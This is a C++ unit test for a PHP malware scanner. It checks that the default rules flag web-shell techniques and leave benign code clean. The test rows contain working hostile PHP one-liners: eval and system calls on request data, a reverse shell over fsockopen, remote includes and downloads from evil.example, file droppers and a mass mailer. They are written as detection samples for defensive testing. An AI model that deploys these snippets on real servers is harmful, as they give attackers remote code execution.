@@ -1,0 +1,175 @@
+// The shipped default rules, built and enciphered, scored through the host
+// adapter with the options qzscan sets: short scripts written from the
+// techniques shells use must get their verdict, and the benign look-alike
+// scripts in tests/rules/lookalikes must stay clean.
+
+#include <qzengine/qzengine.h>
+#include <qzengine/qzwrapper.h>
+
+#include <gtest/gtest.h>
+
+#include <dirent.h>
+#include <algorithm>
+#include <string>
+#include <vector>
+
+namespace {
+
+enum class Verdict { Clean, Suspicious, Threat };
+
+const char* name_of(Verdict v) {
+  return v == Verdict::Threat ? "threat" : v == Verdict::Suspicious ? "suspicious" : "clean";
+}
+
+struct Seen : threat::threat_handler {
+  int on_threat(threat::threat_info*, int) override { return called = true, 0; }
+  bool called = false;
+};
+
+// The look-alike folder must hold at least this many scripts, so that a
+// missing or emptied folder fails instead of passing with nothing checked.
+constexpr size_t kMinLookalikes = 15;
+
+class DefaultRules : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    ASSERT_TRUE(qz_engine_wrapper_init(QZ_BINARY_DIR "/rules/default.rules"));
+    qz_engine_set_options(QZ_OPT_EXTENDED_TAGS | QZ_OPT_FULL_DECODE | QZ_OPT_BINARY_SAFE |
+                          QZ_OPT_LIMIT_FINDINGS | QZ_OPT_MEMORY_BUDGET | QZ_OPT_INTERPRETER_REACH);
+  }
+  void TearDown() override { qz_engine_wrapper_uninit(); }
+
+  static Verdict verdict(int threat, const Seen& seen) {
+    return threat ? Verdict::Threat : seen.called ? Verdict::Suspicious : Verdict::Clean;
+  }
+  Verdict scan_text(std::string text) {
+    threat::threat_info info{};
+    Seen seen;
+    int threat = qz_engine_wrapper_scan_buff(&text[0], text.size(), &info, &seen);
+    return verdict(threat, seen);
+  }
+  Verdict scan_path(std::string path) {
+    threat::threat_info info{};
+    Seen seen;
+    int threat = qz_engine_wrapper_scan_file(&info, &path[0], &seen);
+    return verdict(threat, seen);
+  }
+};
+
+TEST_F(DefaultRules, TechniqueVerdicts) {
+  struct Row {
+    const char* technique;
+    const char* script;
+    Verdict expected;
+  };
+  const Row rows[] = {
+      // Code evaluated from the request, directly or through a decoder.
+      {"eval of a request item", "<?php eval($_POST['c']);", Verdict::Threat},
+      {"assert in a later argument", "<?php @assert('1', $_REQUEST['x']);", Verdict::Threat},
+      {"eval of decoded request text", "<?php @eval(base64_decode($_POST['z']));", Verdict::Threat},
+      {"eval of a decoded literal", "<?php eval(base64_decode('ZWNobyAnaGknOw=='));",
+       Verdict::Threat},
+      {"eval of code reading the request", "<?php $c = '$x = $_GET[\"a\"];'; eval($c);",
+       Verdict::Threat},
+      {"eval of a header", "<?php eval(getenv('HTTP_X_CODE'));", Verdict::Threat},
+      {"decoded create_function body",
+       "<?php $f = create_function('', base64_decode('ZWNobyAxOw==')); $f();", Verdict::Threat},
+      {"create_function around assert",
+       "<?php $f = create_function('$a', 'return assert($a);'); $f($x);", Verdict::Threat},
+      {"preg_replace with e", "<?php preg_replace('/.*/e', $_POST['code'], 'x');", Verdict::Threat},
+      {"mb_ereg_replace with e", "<?php mb_ereg_replace('.*', $_REQUEST['c'], 'x', 'e');",
+       Verdict::Threat},
+      // Functions and callbacks chosen by the request.
+      {"request-named function", "<?php $f = $_GET['f']; $f($_GET['a']);", Verdict::Threat},
+      {"request-named callback", "<?php call_user_func($_GET['cb'], $_GET['a']);", Verdict::Threat},
+      {"request-named sort callback", "<?php usort($list, $_COOKIE['cmp']);", Verdict::Threat},
+      {"assert as a filter callback", "<?php array_filter(array($_POST['x']), 'assert');",
+       Verdict::Threat},
+      {"reflection of a request name",
+       "<?php $r = new ReflectionFunction($_GET['f']); $r->invoke($_GET['a']);", Verdict::Threat},
+      // Commands.
+      {"command from the request", "<?php system($_GET['cmd']);", Verdict::Threat},
+      {"backticks around a request item", "<?php echo `{$_POST['c']}`;", Verdict::Threat},
+      {"command from the session", "<?php session_start(); passthru($_SESSION['c']);",
+       Verdict::Threat},
+      {"decoded command", "<?php shell_exec(base64_decode('aWQ='));", Verdict::Threat},
+      {"command from a header", "<?php system(getenv('HTTP_X_CMD'));", Verdict::Suspicious},
+      {"three shell functions", "<?php system('id'); exec('uname -a'); shell_exec('pwd');",
+       Verdict::Suspicious},
+      {"shell over a socket",
+       "<?php $s = fsockopen('10.0.0.1', 4444);\n"
+       "proc_open('/bin/sh -i', array($s, $s, $s), $p);",
+       Verdict::Threat},
+      // Code loaded from the request or the network.
+      {"include of a request path", "<?php include $_GET['page'];", Verdict::Threat},
+      {"include of a URL", "<?php include 'http://evil.example/x.txt';", Verdict::Threat},
+      {"include of an image", "<?php include 'uploads/avatar.jpg';", Verdict::Threat},
+      // Uploaders and droppers.
+      {"upload stored under the client's name",
+       "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d'] . $_FILES['f']['name']);",
+       Verdict::Threat},
+      {"copy to a request path", "<?php copy($_FILES['f']['tmp_name'], $_GET['to']);",
+       Verdict::Threat},
+      {"decoded text to a request path",
+       "<?php file_put_contents($_GET['n'], base64_decode($_POST['d']));", Verdict::Threat},
+      {"dropped script reading the request",
+       "<?php file_put_contents('x.php', '<?php eval($_POST[1]);');", Verdict::Threat},
+      {"file opened by request name", "<?php $h = fopen($_POST['f'], 'w'); fwrite($h, 'x');",
+       Verdict::Threat},
+      {"handler settings written",
+       "<?php file_put_contents('.htaccess', \"AddType application/x-httpd-php .jpg\");",
+       Verdict::Threat},
+      {"remote script downloaded", "<?php copy('http://evil.example/s.txt', 's.php');",
+       Verdict::Threat},
+      {"mass mailer", "<?php mail($_POST['to'], $_POST['s'], $_POST['b'], $_POST['h']);",
+       Verdict::Threat},
+      {"query taken whole from the request", "<?php mysql_query($_GET['q']);", Verdict::Threat},
+      // Code real applications write.
+      {"fixed command", "<?php exec('git rev-parse HEAD', $out);", Verdict::Clean},
+      {"database exec method", "<?php $db->exec('DELETE FROM s'); $db->query($sql);",
+       Verdict::Clean},
+      {"template compiled and evaluated",
+       "<?php $t = file_get_contents('a.tpl'); $c = str_replace('{{', '<?php echo ', $t);\n"
+       "eval('?>' . $c);",
+       Verdict::Clean},
+      {"contact form mail",
+       "<?php mail('me@example.org', 'Contact', $_POST['m'], 'From: site@example.org');",
+       Verdict::Clean},
+      {"upload to a sanitized name",
+       "<?php move_uploaded_file($_FILES['f']['tmp_name'], '/srv/up/' . "
+       "basename($_FILES['f']['name']));",
+       Verdict::Clean},
+      {"request array trimmed", "<?php $in = array_map('trim', $_POST);", Verdict::Clean},
+      {"fixed include", "<?php include __DIR__ . '/pages/home.php';", Verdict::Clean},
+      {"fixed download", "<?php copy('https://cdn.example.org/logo.png', 'logo.png');",
+       Verdict::Clean},
+      {"cache unserialized", "<?php $v = unserialize(file_get_contents('c.cache'));",
+       Verdict::Clean},
+      {"image decoded to a file", "<?php file_put_contents('a.png', base64_decode($_POST['img']));",
+       Verdict::Clean},
+  };
+  for (const Row& r : rows) {
+    SCOPED_TRACE(r.technique);
+    EXPECT_STREQ(name_of(scan_text(r.script)), name_of(r.expected));
+  }
+}
+
+TEST_F(DefaultRules, LookalikesStayClean) {
+  const std::string dir = QZ_SOURCE_DIR "/tests/rules/lookalikes";
+  std::vector<std::string> names;
+  if (DIR* d = opendir(dir.c_str())) {
+    while (dirent* e = readdir(d)) {
+      std::string n = e->d_name;
+      if (n.size() > 4 && n.compare(n.size() - 4, 4, ".php") == 0) names.push_back(n);
+    }
+    closedir(d);
+  }
+  std::sort(names.begin(), names.end());
+  ASSERT_GE(names.size(), kMinLookalikes) << dir;
+  for (const std::string& n : names) {
+    SCOPED_TRACE(n);
+    EXPECT_STREQ(name_of(scan_path(dir + "/" + n)), "clean");
+  }
+}
+
+}  // namespace
